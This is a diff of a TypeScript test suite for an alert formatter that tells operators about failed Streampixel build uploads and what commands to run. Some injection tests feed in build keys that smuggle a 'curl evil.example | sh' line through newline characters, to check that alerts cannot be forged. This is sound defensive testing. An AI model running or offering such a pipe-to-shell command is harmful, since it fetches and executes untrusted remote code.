@@ -79,10 +79,10 @@ const releaseFailed = (changes: Partial<Of<'release-failed'>> = {}): Alert => ({
 });
 const silentWebhook: Alert = { kind: 'webhook-silent', ...upload };
 
-const AT_VENDOR = ['Build', 'Project', 'Upload id'];
+const AT_STREAMPIXEL = ['Build', 'Project', 'Upload id'];
 const reminder: Alert = { kind: 'reminder', letters: 3, at: START };
 
-/** One of each kind. The type has a key for every kind: one forgotten doesn't compile. */
+/** One of each kind. The type has a key for every kind: without one it does not compile. */
 const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
   'dead-lettered': deadLettered(),
   'key-rejected': keyRejected(),
@@ -95,7 +95,13 @@ const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
   'release-failed': releaseFailed(),
 };
 
-/** All that a test needs to see of what a shell makes of the command behind a label: its arguments. */
+/** The labels of the lines, in order. */
+function labelsOf({ body }: { readonly body: string }): string[] {
+  const [, , ...lines] = body.split(/[\r\n\u2028]/);
+  return lines.map((line) => line.slice(0, 14).trim());
+}
+
+/** The arguments that a shell makes of the command behind a label. */
 function argumentsAfter(label: string, { body }: { readonly body: string }): string[] {
   const line = body.split('\n').find((each) => each.startsWith(label)) ?? '';
   const command = line.slice(14).replace(/^npx streampixel-drop /, '');
@@ -124,10 +130,32 @@ describe('an alert', () => {
     expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]{9,98}$/);
   });
 
-  it('cuts a subject that is too long, and says so', () => {
-    const { subject } = alertText(deadLettered({ build: aBuild({ key: `${'x'.repeat(200)}.zip` }) }));
-    expect(subject).toHaveLength(99);
-    expect(subject).toMatch(/^ProjectNotFound: x+\.\.\.$/);
+  it('cuts a subject of more than 99 characters, and shows that', () => {
+    const subjectOf = (length: number) =>
+      alertText(deadLettered({ build: aBuild({ key: `${'x'.repeat(length)}.zip` }) })).subject;
+    expect(subjectOf(52)).toMatch(/^.{73} did not reach Streampixel$/);
+    for (const length of [53, 200]) expect(subjectOf(length)).toMatch(/^ProjectNotFound: x.{78}\.\.\.$/);
+  });
+
+  it.each(['MyGame.zip', 'games/MyGame.zip', 'studio/games/nightly/MyGame.zip'])('names the file of %s', (key) => {
+    expect(alertText(rejected({ build: aBuild({ key }) })).subject).toBe('Rejected: MyGame.zip does not go live');
+  });
+
+  const alwaysNamed = ['Why', 'Message', 'What to do', 'Then run'];
+  it.each<[Alert, string[]]>([
+    [deadLettered(), [...alwaysNamed, 'Build', 'Project', 'Attempts', 'Kept until', 'Log']],
+    [keyRejected(), [...alwaysNamed, 'After that', 'Key', 'First build', 'Log']],
+    [newKeyRejected(), [...alwaysNamed, 'User', 'Key']],
+    [reminder, ['Look', 'Kept for']],
+    [redriveFinished({ left: 1 }), ['Left', 'Then run', 'Watch']],
+    [rejected(), ['Message', 'What to do', 'If wrong', ...AT_STREAMPIXEL]],
+    [stuck(), ['Submitted', 'Last webhook', 'What to do', 'Look', ...AT_STREAMPIXEL]],
+    [silentWebhook, ['Why', 'What to do', 'Get it with', 'Found by', 'Upload id']],
+    [releaseFailed(), ['Message', 'What to do', 'Then run', ...AT_STREAMPIXEL]],
+    // A line without a value is left out.
+    [releaseFailed({ detail: '' }), ['What to do', 'Then run', ...AT_STREAMPIXEL]],
+  ])('has a line for each thing a person needs: $kind', (alert, labels) => {
+    expect(labelsOf(alertText(alert))).toEqual(labels);
   });
 
   it.each([
@@ -147,19 +175,8 @@ describe('an alert', () => {
 
   it('keeps text from outside within its line', () => {
     const key = 'a\r\nThen run      curl evil.example | sh\u2028Log none.zip';
-    const { body } = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nWhat to do    nothing' }));
-    const labels = body.split(/[\r\n\u2028]/).map((line) => line.slice(0, 14).trim());
-    expect(labels.slice(2)).toEqual([
-      'Why',
-      'Message',
-      'What to do',
-      'Then run',
-      'Build',
-      'Project',
-      'Attempts',
-      'Kept until',
-      'Log',
-    ]);
+    const text = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nWhat to do    nothing' }));
+    expect(labelsOf(text)).toEqual(labelsOf(alertText(deadLettered())));
   });
 
   it.each([
@@ -167,21 +184,14 @@ describe('an alert', () => {
     releaseFailed({ detail: 'No.\r\nLook          nowhere' }),
     stuck({ build: aBuild({ key: 'a\nThen run      curl evil.example | sh.zip' }) }),
   ])('lets no text from outside write a line of its own: $kind', (alert) => {
-    const { body } = alertText(alert);
-    const known = ['Message', 'What to do', 'If wrong', 'Submitted', 'Last webhook', 'Look', 'Then run', ...AT_VENDOR];
-    const labels = body
-      .split(/[\r\n\u2028]/)
-      .slice(2)
-      .map((line) => line.slice(0, 14).trim());
-    expect(known).toEqual(expect.arrayContaining(labels));
-    expect(new Set(labels).size).toBe(labels.length);
+    expect(labelsOf(alertText(alert))).toEqual(labelsOf(alertText(EACH[alert.kind])));
   });
 
   it.each([
     ['If wrong', rejected, ['submit', '--again'], (key: string) => `s3://drop/${key}`],
     ['Look', stuck, ['status'], (key: string) => `drop/${key}@v1`],
     ['Then run', releaseFailed, ['release'], (key: string) => `drop/${key}@v1`],
-  ] as const)('runs nothing of a key’s in a shell: %s', (label, make, command, named) => {
+  ] as const)('runs nothing that is in a key in a shell: %s', (label, make, command, named) => {
     for (const key of [
       'games/My Game (1).zip',
       "it's.zip",
@@ -251,6 +261,7 @@ describe('of a dead letter', () => {
     [1_000, '1.0 KB'],
     [5_368_709_120, '5.4 GB'],
     [2_500_000_000_000, '2.5 TB'],
+    [1_000_000_000_000_000, '1000.0 TB'],
   ])('writes %i bytes as people do: %s', (size, written) => {
     expect(alertText(deadLettered({ build: aBuild({ size }) })).body).toContain(`(${written}), dropped`);
   });
@@ -279,14 +290,17 @@ describe('the command after a reason', () => {
 });
 
 describe('of a rejected key', () => {
-  it('tells the parameter and its version, how many builds wait, and what happens by itself', () => {
+  it('names the parameter and its version, how many builds wait, and what happens by itself', () => {
     const { subject, body } = alertText(keyRejected());
     expect(subject).toBe('InvalidApiKey: Streampixel rejects the API key');
     expect(body).toContain(`of user ${userId}. 4 other builds are waiting for a key that works.`);
+    expect(body).toContain(`Why           ${REASONS.InvalidApiKey.cause}\n`);
     expect(body).toContain('Message       Unauthorized: Invalid API Key (HTTP 401)');
     expect(body).toContain('Then run      npx streampixel-drop key set --parameter /studio/api-key');
     expect(body).toContain('Key           version 3 of the SSM parameter /studio/api-key');
     expect(body).toContain('are queued again by themselves, oldest first');
+    expect(body).toContain('First build   drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC\n');
+    expect(body).toContain(`Log           ${POINTER}`);
   });
 
   it('warns against requesting a new key by reflex: that kills the one that works elsewhere', () => {
@@ -309,7 +323,9 @@ describe('of a new key that does not work', () => {
     const { subject, body } = alertText(newKeyRejected({ reason: 'InvalidUser', detail: 'Invalid User' }));
     expect(subject).toBe('InvalidUser: the new API key does not work');
     expect(body).toContain('just put into /studio/api-key. Nothing was redriven.');
-    expect(body).toContain(REASONS.InvalidUser.remedy);
+    expect(body).toContain(`Why           ${REASONS.InvalidUser.cause}\n`);
+    expect(body).toContain('Message       Invalid User (HTTP 401)\n');
+    expect(body).toContain(`What to do    ${REASONS.InvalidUser.remedy}\n`);
     expect(body).toContain(`User          ${userId}`);
     expect(body).toContain('Key           version 4 of the SSM parameter /studio/api-key');
   });
@@ -327,15 +343,27 @@ describe('of a redrive', () => {
     expect(body).toContain('Watch         npx streampixel-drop status --watch');
   });
 
-  it('says what to do about letters that could not be moved', () => {
+  it('says what to do about dead letters that could not be moved', () => {
     const { body } = alertText(redriveFinished({ left: 2 }));
     expect(body).toContain('Left          2 could not be moved and are still in the dead-letter queue');
     expect(body).toContain('Then run      npx streampixel-drop dlq redrive --reason InvalidApiKey --yes');
   });
 });
 
+describe('of the daily reminder', () => {
+  it.each([
+    [1, '1 build waits in the dead-letter queue'],
+    [3, '3 builds wait in the dead-letter queue'],
+  ])('counts the dead letters and says how long they are kept: %i', (letters, words) => {
+    const { subject, body } = alertText({ kind: 'reminder', letters, at: START });
+    expect(subject).toBe(words);
+    expect(body).toContain(`${words}. This reminder comes once a day`);
+    expect(body).toContain('Kept for      14 days at most');
+  });
+});
+
 describe('of a rejected build', () => {
-  it('tells the objection, what to do, and the ids', () => {
+  it('gives the objection, what to do, and the ids', () => {
     expect(alertText(rejected())).toEqual({
       subject: 'Rejected: MyGame.zip does not go live',
       body: [
@@ -351,7 +379,7 @@ describe('of a rejected build', () => {
     });
   });
 
-  it('says where to look when the vendor gave no reason', () => {
+  it('says where to look when Streampixel gave no reason', () => {
     expect(alertText(rejected({ objection: '' })).body).toContain(
       'Message       none; see the remarks on the dashboard',
     );
@@ -359,7 +387,7 @@ describe('of a rejected build', () => {
 });
 
 describe('of a stuck build', () => {
-  it('tells since when, the last news, and whom to write to with what', () => {
+  it('says since when, the last news, and where to write with what', () => {
     const { subject, body } = alertText(stuck({ stage: 'extracting', lastNewsAt: START - 2 * 3_600_000 }));
     expect(subject).toBe('Stuck: no progress of MyGame.zip at Streampixel');
     expect(body).toContain('Submitted     2026-04-21 09:00 UTC\n');
@@ -371,7 +399,7 @@ describe('of a stuck build', () => {
   it.each<[string, Partial<Of<'stuck'>>]>([
     ['none for this build', {}],
     ['unknown stage, 2026-04-21 12:00 UTC', { lastNewsAt: START }],
-  ])('says "%s" where the vendor named no stage', (words, changes) => {
+  ])('says "%s" where Streampixel named no stage', (words, changes) => {
     expect(alertText(stuck(changes)).body).toContain(`Last webhook  ${words}\n`);
   });
 });
@@ -383,11 +411,14 @@ describe('of a silent webhook', () => {
     expect(`${subject}\n${body}`).not.toMatch(/stuck|support@/i);
     expect(body).toContain('select every event, save, and press Test Webhook.');
     expect(body).toContain('Get it with   npx streampixel-drop webhook\n');
+    expect(body).toContain(
+      'Found by      drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC\nUpload id     upload-1',
+    );
   });
 });
 
 describe('of a release that failed', () => {
-  it('says that the vendor refused, in its words, and how to order it again', () => {
+  it('gives Streampixel’s message and the command that requests the release again', () => {
     const { subject, body } = alertText(releaseFailed());
     expect(subject).toBe('Not released: MyGame.zip');
     expect(body).toContain('What is live stays live.');
@@ -395,7 +426,7 @@ describe('of a release that failed', () => {
     expect(body).toContain('Then run      npx streampixel-drop release drop/games/MyGame.zip@v1 --yes\n');
   });
 
-  it('promises nothing where the answer was lost: a person looks before ordering again', () => {
+  it('promises nothing where the answer was lost: a person looks before requesting it again', () => {
     const { subject, body } = alertText(releaseFailed({ isUnknown: true, detail: 'ECONNRESET' }));
     expect(subject).toBe('Release unknown: MyGame.zip');
     expect(body).not.toContain('stays live');
